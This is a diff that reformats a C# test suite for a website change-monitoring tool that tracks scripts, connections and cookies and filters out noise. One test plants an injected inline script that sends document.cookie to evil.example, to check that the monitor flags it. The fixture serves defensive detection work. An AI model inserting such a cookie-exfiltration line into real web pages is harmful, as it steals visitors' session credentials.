@@ -26,12 +26,15 @@ public sealed class NoiseTests
         Assert.Empty(changes);
         await using var context = site.Open();
         var script = Assert.Single(await context.Scripts.ToListAsync(Cancel));
-        Assert.Equal(("https://edge{n}.ads.example/serve.js", "edge2.ads.example", "https://edge2.ads.example/serve.js"), (script.UrlTemplate, script.Host, script.Url));
-        Assert.Equal(["https://{id}.fls.example/", "https://{token}.track.example/clear.png"], (await context.Connections.Select(row => row.UrlTemplate).ToListAsync(Cancel)).Order(StringComparer.Ordinal));
+        Assert.Equal(("https://edge{n}.ads.example/serve.js", "edge2.ads.example", "https://edge2.ads.example/serve.js"),
+            (script.UrlTemplate, script.Host, script.Url));
+        Assert.Equal(["https://{id}.fls.example/", "https://{token}.track.example/clear.png"],
+            (await context.Connections.Select(row => row.UrlTemplate).ToListAsync(Cancel)).Order(StringComparer.Ordinal));
 
         static Capture Visit(string edge, string token, string account) => Of(Home, (File($"https://{edge}.ads.example/serve.js"), Library)) with
         {
-            Connections = [To($"https://{token}.track.example/clear.png", ConnectionType.Image), To($"https://{account}.fls.example/", ConnectionType.Iframe)],
+            Connections =
+                [To($"https://{token}.track.example/clear.png", ConnectionType.Image), To($"https://{account}.fls.example/", ConnectionType.Iframe)],
             Frames = [new CapturedFrame($"https://{account}.fls.example/", Home, false)],
         };
     }
@@ -40,9 +43,15 @@ public sealed class NoiseTests
     public async Task A_domain_with_many_hosts_makes_them_up_whatever_they_look_like_and_another_domain_is_news()
     {
         await using var site = await WatchedSite.CreateAsync(Provider.Sqlite);
-        await site.CrawlAsync(Of(Home) with { Connections = [.. new[] { "brave", "calm", "dark", "easy", "fair", "good", "hard", "idle", "just", "kind", "late", "mild" }.Select(word => To($"https://{word}.pool.example/p", ConnectionType.Fetch))] });
+        await site.CrawlAsync(
+            Of(Home) with { Connections =
+            [.. new[] { "brave", "calm", "dark", "easy", "fair", "good", "hard", "idle", "just", "kind", "late",
+            "mild" }.Select(word => To($"https://{word}.pool.example/p", ConnectionType.Fetch))] });
 
-        var changes = await site.CrawlAsync(Of(Home) with { Connections = [To("https://glad.pool.example/p", ConnectionType.Fetch), To("https://glad.evil.example/p", ConnectionType.Fetch)] });
+        var changes =
+            await site.CrawlAsync(
+            Of(Home) with { Connections =
+            [To("https://glad.pool.example/p", ConnectionType.Fetch), To("https://glad.evil.example/p", ConnectionType.Fetch)] });
 
         Assert.Equal("glad.evil.example", Assert.Single(changes).Subject);
     }
@@ -78,10 +87,14 @@ public sealed class NoiseTests
         await using (var context = site.Open())
             Assert.Equal(ScriptVariation.Generated, (await context.Scripts.SingleAsync(Cancel)).Variation);
 
-        var attack = await site.CrawlAsync(Of(Home, Flight(7), (Inline(Home, "script:nth(2)"), "self.__next_f.push([8,'x']);fetch('https://evil.example/?'+document.cookie)")));
+        var attack =
+            await site.CrawlAsync(
+            Of(Home, Flight(7), (Inline(Home, "script:nth(2)"), "self.__next_f.push([8,'x']);fetch('https://evil.example/?'+document.cookie)")));
         Assert.Contains(attack, change => change.Class >= ChangeClass.Code);
 
-        static (CapturedScript, string) Flight(int number) => (Inline(Home, $"script:nth({number})"), $"self.__next_f.push([{number},\"{new string('x', number)}\"{(number % 2 == 0 ? ",{a:1}" : "")}])");
+        static (CapturedScript, string) Flight(int number) =>
+            (Inline(Home, $"script:nth({number})"),
+            $"self.__next_f.push([{number},\"{new string('x', number)}\"{(number % 2 == 0 ? ",{a:1}" : "")}])");
     }
 
     [Fact]
@@ -95,9 +108,11 @@ public sealed class NoiseTests
         Assert.Single(await site.CrawlAsync(Visit("sess_81ce0310e843", "_ga_7F3Q1796058", "other")));
 
         await using var context = site.Open();
-        Assert.Equal(["_ga_7F3Q1796058", "other", "sess_{hash}"], (await context.Cookies.Select(cookie => cookie.Name).ToListAsync(Cancel)).Order(StringComparer.Ordinal));
+        Assert.Equal(["_ga_7F3Q1796058", "other", "sess_{hash}"],
+            (await context.Cookies.Select(cookie => cookie.Name).ToListAsync(Cancel)).Order(StringComparer.Ordinal));
 
-        static Capture Visit(params string[] names) => Of(Home) with { Cookies = [.. names.Select(name => new CapturedCookie { Name = name, Domain = "shop.example", Path = "/" })] };
+        static Capture Visit(params string[] names) =>
+            Of(Home) with { Cookies = [.. names.Select(name => new CapturedCookie { Name = name, Domain = "shop.example", Path = "/" })] };
     }
 
     [Theory]
@@ -109,18 +124,24 @@ public sealed class NoiseTests
 
         Assert.Empty(await site.CrawlAsync(Visit(Call("0badc0de"), Unloaded("060138684199"))));
         Assert.Empty(await site.CrawlAsync(Visit(Call("91e2d4a7"), Unloaded("006651369239"))));
-        Assert.Equal(ChangeKind.ScriptAdded, Assert.Single(await site.CrawlAsync(Visit(Call("91e2d4a7"), Call("account-x"), Unloaded("006651369239")))).Kind);
+        Assert.Equal(
+            ChangeKind.ScriptAdded, Assert.Single(await site.CrawlAsync(Visit(Call("91e2d4a7"), Call("account-x"), Unloaded("006651369239")))).Kind);
 
-        Assert.Equal(ChangeKind.ScriptAdded, (await site.CrawlAsync(Visit(Call("91e2d4a7"), Call("account-y"), Unloaded("006651369239"))))[0].Kind); // another account is another script
+        // another account is another script
+        Assert.Equal(ChangeKind.ScriptAdded, (await site.CrawlAsync(Visit(Call("91e2d4a7"), Call("account-y"), Unloaded("006651369239"))))[0].Kind);
 
         static Capture Visit(params (CapturedScript Script, string? Text)[] scripts)
         {
-            var loaded = Of(Home, [.. scripts.Where(script => script.Text is not null).Select(script => (script.Script, script.Text!))]); // not null: filtered
-            return loaded with { Scripts = [.. loaded.Scripts, .. scripts.Where(script => script.Text is null).Select((script, number) => script.Script with { Id = 50 + number })] };
+            // not null: filtered
+            var loaded = Of(Home, [.. scripts.Where(script => script.Text is not null).Select(script => (script.Script, script.Text!))]);
+            return loaded with { Scripts =
+                [.. loaded.Scripts,
+                .. scripts.Where(script => script.Text is null).Select((script, number) => script.Script with { Id = 50 + number })] };
         }
 
         static (CapturedScript, string?) Call(string value) => (File($"https://chat.example/call?site=7&visit={value}"), "lp.go(1);");
-        static (CapturedScript, string?) Unloaded(string value) => (File($"https://chat.example/knock?visit={value}") with { Ran = false, NotRunReason = NotRunReason.Network }, null);
+        static (CapturedScript, string?) Unloaded(string value) =>
+            (File($"https://chat.example/knock?visit={value}") with { Ran = false, NotRunReason = NotRunReason.Network }, null);
     }
 
     [Fact]
@@ -133,7 +154,8 @@ public sealed class NoiseTests
         foreach (var (name, number) in new[] { ("plainname", 2), ("91e2d4a7bc02", 3), ("othername", 4), ("0badc0de1234", 5) })
             Assert.All(await site.CrawlAsync(Visit(name, number)), change => Assert.Equal(ChangeKind.ScriptChanged, change.Kind));
 
-        static Capture Visit(string name, int number) => Of(Home, (File($"https://cdn.example/{name}/1.js"), Text.Replace("NUMBER", $"{number}", StringComparison.Ordinal)));
+        static Capture Visit(string name, int number) =>
+            Of(Home, (File($"https://cdn.example/{name}/1.js"), Text.Replace("NUMBER", $"{number}", StringComparison.Ordinal)));
     }
 
     [Fact]
@@ -142,10 +164,15 @@ public sealed class NoiseTests
         await using var site = await WatchedSite.CreateAsync(Provider.Sqlite);
         await site.CrawlAsync(Of(Home));
 
-        var changes = await site.CrawlAsync(Of(Home) with { Scripts = [File("https://cdn.example/reviews.js") with { Id = 1, Ran = false, NotRunReason = NotRunReason.Network }] });
+        var changes =
+            await site.CrawlAsync(
+            Of(Home) with { Scripts = [File("https://cdn.example/reviews.js") with { Id = 1, Ran = false, NotRunReason = NotRunReason.Network }] });
 
-        Assert.Contains(changes, change => change.Kind == ChangeKind.ScriptAdded && change.Summary == "https://shop.example/ asks for a new script file from cdn.example, which could not be loaded.");
+        Assert.Contains(changes,
+            change => change.Kind == ChangeKind.ScriptAdded
+            && change.Summary == "https://shop.example/ asks for a new script file from cdn.example, which could not be loaded.");
     }
 
-    private static CapturedConnection To(string url, ConnectionType type) => new() { Url = url, Host = new Uri(url).Host, Method = "GET", Type = type, Initiator = "" };
+    private static CapturedConnection To(string url, ConnectionType type) =>
+        new() { Url = url, Host = new Uri(url).Host, Method = "GET", Type = type, Initiator = "" };
 }
